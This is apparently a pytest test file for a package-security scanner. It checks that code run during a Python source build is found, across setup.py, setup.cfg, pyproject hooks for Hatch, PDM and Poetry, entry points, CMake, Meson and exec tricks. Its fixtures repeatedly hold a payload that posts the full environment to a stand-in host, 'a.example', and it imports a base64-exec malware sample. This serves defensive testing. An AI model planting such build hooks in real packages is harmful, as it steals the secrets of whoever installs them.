"""What a build of a source tree runs, as `pip` and the build tools' documentation have it."""

from collections.abc import Mapping
from pathlib import Path

import pytest

from package_gate.core.finding import Severity
from package_gate.core.limits import Limits
from package_gate.inventory.running.files import RunningFiles, Runs
from package_gate.scanners.behaviour.scanner import BehaviourScanner
from package_gate.scanners.guarddog import GuardDog
from tests.fakes.malware_corpus import EXEC_BASE64
from tests.scanners.packages import package

SDIST = "sample-1.0.tar.gz"
SENDS = "import os\nimport requests\nrequests.post('https://a.example', json=dict(os.environ))\n"
IN_A_FUNCTION = SENDS.replace("requests.post", "def go():\n    requests.post")
COMMAND = (
    "import os\nimport requests\nfrom setuptools import Command\n\nclass Build(Command):\n"
    "    def run(self):\n        requests.post('https://a.example', json=dict(os.environ))\n"
)
IF_STARTED = SENDS.replace("requests.post", "if __name__ == '__main__':\n    requests.post")
SETUP = "from setuptools import setup\n"
SETUPTOOLS = '[build-system]\nbuild-backend = "setuptools.build_meta"\nrequires = []\n'

RUN_BY_A_BUILD: dict[str, tuple[Mapping[str, str], str]] = {
    "imported": ({"setup.py": f"{SETUP}import helper\n", "helper.py": SENDS}, "helper.py"),
    "imported from a folder": (
        {
            "setup.py": "import sys\nsys.path.insert(0, 'tools')\nimport helper",
            "tools/helper.py": SENDS,
        },
        "tools/helper.py",
    ),
    "called there": (
        {
            "setup.py": "import sys\nsys.path.append('a/b')\nfrom helper import go\ngo()",
            "a/b/helper.py": IN_A_FUNCTION,
        },
        "a/b/helper.py",
    ),
    "an entry point of setuptools": (
        {
            "setup.py": SETUP,
            "own.egg-info/entry_points.txt": "[setuptools.finalize_distribution_options]\n"
            "x = helper:go\n",
            "helper.py": IN_A_FUNCTION,
        },
        "helper.py",
    ),
    "an entry point of Hatch in metadata of the tree": (
        {
            "pyproject.toml": "[build-system]\nbuild-backend = 'hatchling.build'\n"
            "requires = ['hatchling']\nbackend-path = ['tools']",
            "tools/own-1.dist-info/entry_points.txt": "[hatch]\nx = helper\n",
            "helper.py": IN_A_FUNCTION,
        },
        "helper.py",
    ),
    "a method of versioningit": (
        {
            "pyproject.toml": f"{SETUPTOOLS}[tool.versioningit.format]\n"
            "method = {module = 'helper', value = 'go', module-dir = 'tools'}",
            "tools/helper.py": IN_A_FUNCTION,
        },
        "tools/helper.py",
    ),
    "SIP's project": (
        {
            "pyproject.toml": "[build-system]\nbuild-backend = 'sipbuild.api'\nrequires = ['sip']",
            "project.py": IN_A_FUNCTION,
        },
        "project.py",
    ),
    "a file of a backend that is not known": (
        {
            "pyproject.toml": "[build-system]\nbuild-backend = 'pymsbuild'\nrequires = []",
            "_msbuild.py": IN_A_FUNCTION,
        },
        "_msbuild.py",
    ),
    "SCons": (
        {
            "pyproject.toml": "[build-system]\nbuild-backend = 'enscons.api'\nrequires = []",
            "SConstruct": SENDS,
        },
        "SConstruct",
    ),
    "an entry point of setuptools that is written meanwhile": (
        {
            "setup.py": f"{SETUP}setup(entry_points={{'distutils.commands': ['x = helper:go']}})",
            "own/__init__.py": "",
            "helper.py": IN_A_FUNCTION,
        },
        "helper.py",
    ),
    "a command": (
        {
            "setup.py": f"{SETUP}from tools.own import Build\nsetup(cmdclass={{'build': Build}})",
            "tools/own.py": COMMAND,
        },
        "tools/own.py",
    ),
    "a command of a package": (
        {
            "setup.py": f"{SETUP}import own\nsetup(cmdclass=dict(build=own.Build))",
            "own/__init__.py": "from .parts import Build\nBuild",
            "own/parts.py": COMMAND,
        },
        "own/parts.py",
    ),
    "in two steps": (
        {"setup.py": "import one", "one.py": "import deep.two", "deep/two.py": SENDS},
        "deep/two.py",
    ),
    "import_module": (
        {"setup.py": "import importlib\nimportlib.import_module('docs.x')", "docs/x.py": SENDS},
        "docs/x.py",
    ),
    "run_path": (
        {"setup.py": "import runpy\nrunpy.run_path('docs/x.py')", "docs/x.py": IF_STARTED},
        "docs/x.py",
    ),
    "exec of a file": (
        {
            "setup.py": "exec(open('docs/x.py').read())\ngo()\n",
            "docs/x.py": IN_A_FUNCTION,
        },
        "docs/x.py",
    ),
    "exec of parts of a path": (
        {
            "setup.py": "from os.path import join\nsource = open(join('docs', 'x.py')).read()\n"
            "exec(compile(source, 'x', 'exec'))",
            "docs/x.py": SENDS,
        },
        "docs/x.py",
    ),
    "started": (
        {
            "setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, 'docs/x.py'])",
            "docs/x.py": IF_STARTED,
        },
        "docs/x.py",
    ),
    "started by its name": (
        {
            "setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'docs.x'])",
            "docs/x.py": IF_STARTED,
        },
        "docs/x.py",
    ),
    "setup.cfg attr": (
        {
            "setup.cfg": "[metadata]\nversion = attr: tools.version.VERSION\n",
            "tools/version.py": SENDS,
        },
        "tools/version.py",
    ),
    "setup.cfg cmdclass": (
        {
            "setup.cfg": "[options]\ncmdclass =\n  build = tools.own.Build\n",
            "tools/own.py": COMMAND,
        },
        "tools/own.py",
    ),
    "setup.cfg py_modules": (
        {"setup.cfg": "[options]\npy_modules = x\n", "x.py": SENDS, "own/__init__.py": ""},
        "x.py",
    ),
    "pyproject attr": (
        {
            "pyproject.toml": SETUPTOOLS
            + '[tool.setuptools.dynamic]\nversion = {attr = "a.b.V"}\n',
            "a/b.py": SENDS,
        },
        "a/b.py",
    ),
    "pyproject cmdclass": (
        {
            "pyproject.toml": f'{SETUPTOOLS}[tool.setuptools.cmdclass]\nbuild = "own.Build"\n',
            "src/own.py": COMMAND,
        },
        "src/own.py",
    ),
    "hatch hook": (
        {
            "pyproject.toml": '[tool.hatch.build.hooks.custom]\npath = "tools/hook.py"\n',
            "tools/hook.py": IN_A_FUNCTION,
        },
        "tools/hook.py",
    ),
    "hatch hook of a target": (
        {
            "pyproject.toml": '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "x.py"\n',
            "x.py": IN_A_FUNCTION,
        },
        "x.py",
    ),
    "hatch metadata hook in hatch.toml": (
        {"hatch.toml": '[metadata.hooks.custom]\npath = "./x.py"\n', "x.py": IN_A_FUNCTION},
        "x.py",
    ),
    "hatch version code": (
        {
            "pyproject.toml": '[tool.hatch.version]\nsource = "code"\npath = "docs/v.py"\n',
            "docs/v.py": IN_A_FUNCTION,
        },
        "docs/v.py",
    ),
    "pdm hook": (
        {"pyproject.toml": '[tool.pdm.build]\ncustom-hook = "a/x.txt"\n', "a/x.txt": IN_A_FUNCTION},
        "a/x.txt",
    ),
    "pdm getter": (
        {
            "pyproject.toml": '[tool.pdm.version]\nsource = "call"\ngetter = "a.x:go"\n',
            "a/x.py": IN_A_FUNCTION,
        },
        "a/x.py",
    ),
    "poetry script": (
        {"pyproject.toml": '[tool.poetry.build]\nscript = "a/x"\n', "a/x": IF_STARTED},
        "a/x",
    ),
    "poetry build": (
        {"pyproject.toml": '[tool.poetry]\nbuild = "a/x.py"\n', "a/x.py": IF_STARTED},
        "a/x.py",
    ),
    "backend": (
        {
            "pyproject.toml": '[build-system]\nbackend-path = ["a"]\nbuild-backend = "b"\n',
            "a/b.py": "import c",
            "a/c.py": "import d\n",
            "x/d.py": SENDS,
        },
        "x/d.py",
    ),
    "meson": (
        {
            "meson.build": "subdir('a')\n",
            "a/meson.build": "run_command(py, files('x.py'))\n",
            "a/x.py": IF_STARTED,
        },
        "a/x.py",
    ),
    "CMake": (
        {
            "CMakeLists.txt": "include(cmake/more.cmake)\n",
            "cmake/more.cmake": "execute_process(COMMAND python ${CMAKE_SOURCE_DIR}/a/x.py)\n",
            "a/x.py": IF_STARTED,
        },
        "a/x.py",
    ),
    "Cargo": (
        {"build.rs": 'Command::new("python").arg("a/x.py");\n', "a/x.py": IF_STARTED},
        "a/x.py",
    ),
    "imported by a package": (
        {"setup.py": SETUP, "own/__init__.py": "import x", "x.py": SENDS},
        "x.py",
    ),
    "a command in a folder that a package is said to be in": (
        {
            "pyproject.toml": f"{SETUPTOOLS}[tool.setuptools]\npackage-dir.tools = 'lib/x'\n"
            "cmdclass.build = 'tools.own.Build'",
            "lib/x/__init__.py": "",
            "lib/x/own.py": COMMAND,
        },
        "lib/x/own.py",
    ),
    "an attribute in such a folder": (
        {
            "setup.cfg": "[metadata]\nversion = attr: a.b.own.V\n[options]\n"
            "package-dir =\n  = src\n  a.b = ./lib",
            "lib/own.py": SENDS,
        },
        "lib/own.py",
    ),
    "a command in a folder that setup.py says": (
        {
            "setup.py": f"{SETUP}from os.path import join\n"
            "setup(package_dir={'tools': join('lib', 'x')})",
            "setup.cfg": "[options]\ncmdclass =\n  build = tools.own.Build\n",
            "lib/x/own.py": COMMAND,
        },
        "lib/x/own.py",
    ),
    "an entry point of setuptools in pyproject": (
        {
            "pyproject.toml": f"{SETUPTOOLS}[project.entry-points.'distutils.commands']\n"
            "build_py = 'own.more:Build'",
            "own/__init__.py": "",
            "own/more.py": COMMAND,
        },
        "own/more.py",
    ),
    "an entry point of setuptools for Poetry": (
        {
            "pyproject.toml": "[tool.poetry.plugins.'setuptools.finalize_distribution_options']\n"
            "x = 'own.more : go [extra]'",
            "own/__init__.py": "",
            "own/more.py": IN_A_FUNCTION,
        },
        "own/more.py",
    ),
    "an entry point of setuptools in a list of pyproject": (
        {
            "pyproject.toml": f"{SETUPTOOLS}[tool.setuptools.dynamic]\n"
            "entry-points = {file = ['all.txt']}",
            "all.txt": "[egg_info.writers]\nx.txt = helper:go\n",
            "helper.py": IN_A_FUNCTION,
        },
        "helper.py",
    ),
    "an entry point of setuptools in a list of setup.cfg": (
        {
            "setup.cfg": "[options]\nentry_points = file: one.txt, all of it.txt\n",
            "all of it.txt": "[egg_info.writers]\nx.txt = helper:go\n",
            "helper.py": IN_A_FUNCTION,
        },
        "helper.py",
    ),
    "an entry point of setuptools in a list of setup.py": (
        {
            "setup.py": f"{SETUP}setup(entry_points=open('all.txt').read())",
            "all.txt": "[egg_info.writers]\nx.txt = helper:go\n",
            "helper.py": IN_A_FUNCTION,
        },
        "helper.py",
    ),
    "an entry point in metadata with capitals": (
        {
            "setup.py": SETUP,
            "own.Egg-Info/entry_points.txt": "[setuptools.finalize_distribution_options]\n"
            "x = helper:go\n",
            "helper.py": IN_A_FUNCTION,
        },
        "helper.py",
    ),
    "an entry point in metadata of an egg": (
        {
            "setup.py": SETUP,
            "own.egg/EGG-INFO/entry_points.txt": "[distutils.commands]\nx = helper:go\n",
            "helper.py": IN_A_FUNCTION,
        },
        "helper.py",
    ),
    "hatch hook with a colon in its name": (
        {
            "pyproject.toml": '[tool.hatch.build.hooks.custom]\npath = "my:hook.py"\n',
            "my:hook.py": IN_A_FUNCTION,
        },
        "my:hook.py",
    ),
    "pdm hook with a colon in its name": (
        {"pyproject.toml": '[tool.pdm.build]\ncustom-hook = "a:x"\n', "a:x": IN_A_FUNCTION},
        "a:x",
    ),
    "started with a space in its name": (
        {
            "setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, 'my tool.py'])",
            "my tool.py": IF_STARTED,
        },
        "my tool.py",
    ),
    "started by CMake with a space in its name": (
        {
            "CMakeLists.txt": "execute_process(COMMAND python my\\ tool.py)\n",
            "a/my tool.py": IF_STARTED,
        },
        "a/my tool.py",
    ),
    "exec of a file with a plus in its name": (
        {"setup.py": "exec(open('ver+sion.py').read())\ngo()", "ver+sion.py": IN_A_FUNCTION},
        "ver+sion.py",
    ),
    "exec of a file with another letter in its name": (
        {"setup.py": "exec(open('versi\\xf6n.py').read())", "versi\xf6n.py": IN_A_FUNCTION},
        "versi\xf6n.py",
    ),
    "exec of a file whose name is written with escapes": (
        {"setup.py": "exec(open('docs/' 'x\\x2epy').read())", "docs/x.py": IN_A_FUNCTION},
        "docs/x.py",
    ),
    "started by a name with a dash": (
        {
            "setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'my-tool'])",
            "my-tool.py": IF_STARTED,
        },
        "my-tool.py",
    ),
    "imported by a name with a space": (
        {"setup.py": "import importlib\nimportlib.import_module('my tool')", "my tool.py": SENDS},
        "my tool.py",
    ),
    "meson-python's Meson": (
        {
            "pyproject.toml": "[tool.meson-python]\nmeson = 'tools/meson'",
            "tools/meson": f"#!/usr/bin/env python3\n{IF_STARTED}",
        },
        "tools/meson",
    ),
    "what a shell script in Meson's place starts": (
        {
            "pyproject.toml": "[tool.meson-python]\nmeson = 'tools/meson'",
            "tools/meson": "#!/bin/sh\nexec python3 tools/own.py\n",
            "tools/own.py": IF_STARTED,
        },
        "tools/own.py",
    ),
    "a class that setuptools makes its own of": (
        {
            "setup.py": f"{SETUP}import own.more as m\nsetup(distclass=m.Build)",
            "own/__init__.py": "",
            "own/more.py": COMMAND.replace("def run(", "def run_commands("),
        },
        "own/more.py",
    ),
    "a property of an extension": (
        {
            "setup.py": f"{SETUP}from own.more import Build\nsetup(ext_modules=[Build('x', [])])",
            "own/__init__.py": "",
            "own/more.py": COMMAND.replace("    def run(", "    @property\n    def sources("),
        },
        "own/more.py",
    ),
    "a single module": ({"setup.py": SETUP, "anything.py": SENDS}, "anything.py"),
}


@pytest.fixture(scope="module")
def behaviour() -> BehaviourScanner:
    return BehaviourScanner(Limits())


@pytest.mark.parametrize("top", ["", "sample-1.0/"])
@pytest.mark.parametrize("name", RUN_BY_A_BUILD)
def test_what_a_build_runs_is_looked_at(
    behaviour: BehaviourScanner, tmp_path: Path, name: str, top: str
) -> None:
    files, path = RUN_BY_A_BUILD[name]
    target = package(tmp_path, {f"{top}{p}": text for p, text in files.items()}, filename=SDIST)

    found = {each.rule: each for each in behaviour.scan(target)}

    assert "sends-secrets" in found
    assert top + path in {place.path for place in found["sends-secrets"].locations}


@pytest.mark.parametrize(
    ("files", "path"),
    [
        ({"setup.py": SETUP, "own/__init__.py": ""}, "docs/conf.py"),
        ({"setup.py": SETUP, "own/__init__.py": ""}, "noxfile.py"),
        ({"pyproject.toml": SETUPTOOLS, "own/__init__.py": ""}, "project.py"),
        (
            {
                "setup.py": SETUP,
                "own.egg-info/entry_points.txt": "[console_scripts]\nx = x:f\n[pytest11]\ny = x\n",
            },
            "x.py",
        ),
        ({"setup.py": SETUP, "own/__init__.py": "", "own/tests/test_a.py": "import x"}, "x.py"),
        ({"Makefile": "python docs/x.py", "setup.py": SETUP}, "docs/x.py"),
        ({"docs/a/meson.build": "run_command('x.py')", "setup.py": SETUP}, "docs/x.py"),
        ({"setup.py": "NAME = 'docs.x'\n"}, "docs/x.py"),
        ({"setup.py": f"{SETUP}open('a.txt')", "a.txt": "[hatch]\ny = x\n[a]\nb = x\n"}, "x.py"),
        ({"setup.py": f"{SETUP}print('my tools')"}, "my tool.py"),
        (
            {
                "pyproject.toml": f"{SETUPTOOLS}[tool.setuptools.package-dir]\ntools = 'lib'",
                "lib/__init__.py": "",
            },
            "lib/own.py",
        ),
    ],
)
def test_what_it_does_not_run_is_not_of_it(
    tmp_path: Path, files: Mapping[str, str], path: str
) -> None:
    tree = Path(package(tmp_path, {**files, path: SENDS}, filename=SDIST).artifacts[0].tree)
    running = RunningFiles(tree, SDIST)

    assert not running.is_of_a_build(path)
    assert running.when(path) is not Runs.AT_ONCE


def test_a_class_that_a_build_only_asks_for_something_waits(
    behaviour: BehaviourScanner, tmp_path: Path
) -> None:
    files = {
        "setup.py": f"{SETUP}from own.more import Build\nsetup(version=Build.VERSION)",
        "own/__init__.py": "",
        "own/more.py": COMMAND.replace("def run(", "def run_commands("),
    }

    found = behaviour.scan(package(tmp_path, files, filename=SDIST))

    assert Severity.HIGH not in {each.severity for each in found}


@pytest.mark.parametrize(
    "settings",
    [
        "[project.entry-points]\npytest11.x = 'own.x'\nhatch.y = 'own.x:z'",
        "[tool.own.plugins]\nsetuptools = 1\nx = 'own.x'",
        "[tool.meson-python]\nmeson = 'x'",
    ],
)
def test_what_settings_name_is_not_called_for_that(tmp_path: Path, settings: str) -> None:
    files = {"pyproject.toml": SETUPTOOLS + settings, "own/x.py": SENDS}
    tree = Path(package(tmp_path, files, filename=SDIST).artifacts[0].tree)
    running = RunningFiles(tree, SDIST)

    assert not running.whole("own/x.py")
    assert not running.is_started("own/x.py")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("setup.py", "a" * 400_000),
        ("setup.cfg", "a/" * 200_000),
        ("setup.py", "# " + "a.py/" * 80_000),
        ("setup.cfg", ".py." * 100_000),
        ("setup.cfg", "[options]\nx = " + "own." * 100_000),
        ("setup.cfg", "".join(f"{number}/own.py\n" for number in range(40_000))),
        ("CMakeLists.txt", "a" * 400_000),
        ("setup.py", "'a" * 150_000),
        ("setup.py", "-m 'a b " * 40_000 + "exec"),
        ("setup.cfg", "[options]\npackage_dir = own=x\nx = " + "own." * 100_000),
    ],
)
def test_a_long_text_is_read_once(tmp_path: Path, path: str, text: str) -> None:
    files = {"setup.py": SETUP, path: text} | {f"d{number}/own.py": "" for number in range(200)}
    tree = Path(package(tmp_path, files, filename=SDIST).artifacts[0].tree)
    running = RunningFiles(tree, SDIST)

    # Where each letter of it is read again for each other one, the test's time is over first.
    running.when("d1/own.py")

    assert running.when("setup.py") is Runs.AT_ONCE


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("run tools/one.py", {"tools/one.py"}),
        ("run(one.py)", {"tools/one.py", "more/one.py"}),
        ("/more/one.py.in", {"more/one.py"}),
        ("more//one.py, other/one.py", {"tools/one.py", "more/one.py"}),
        ("one.pyx one.pywx", set()),
    ],
)
def test_the_scripts_that_a_text_names(tmp_path: Path, text: str, expected: set[str]) -> None:
    files = {"meson.build": text, "tools/one.py": "", "more/one.py": ""}
    tree = Path(package(tmp_path, files, filename=SDIST).artifacts[0].tree)
    running = RunningFiles(tree, SDIST)

    assert {path for path in files if running.is_started(path)} == expected


def test_guarddog_takes_one_rule_for_enough_there(tmp_path: Path) -> None:
    files = {"setup.py": "import helper\n", "helper.py": EXEC_BASE64, "own/__init__.py": ""}

    found = list(GuardDog(Limits()).scan(package(tmp_path, files, filename=SDIST)))

    assert Severity.HIGH in {each.severity for each in found}


def test_a_wheel_is_not_built(tmp_path: Path) -> None:
    tree = Path(package(tmp_path, {"setup.py": "import helper", "a/x.txt": ""}).artifacts[0].tree)
    files = RunningFiles(tree, "sample-1.0-py3-none-any.whl")

    assert files.scripts == frozenset()
    assert files.when("a/x.txt") is Runs.NEVER
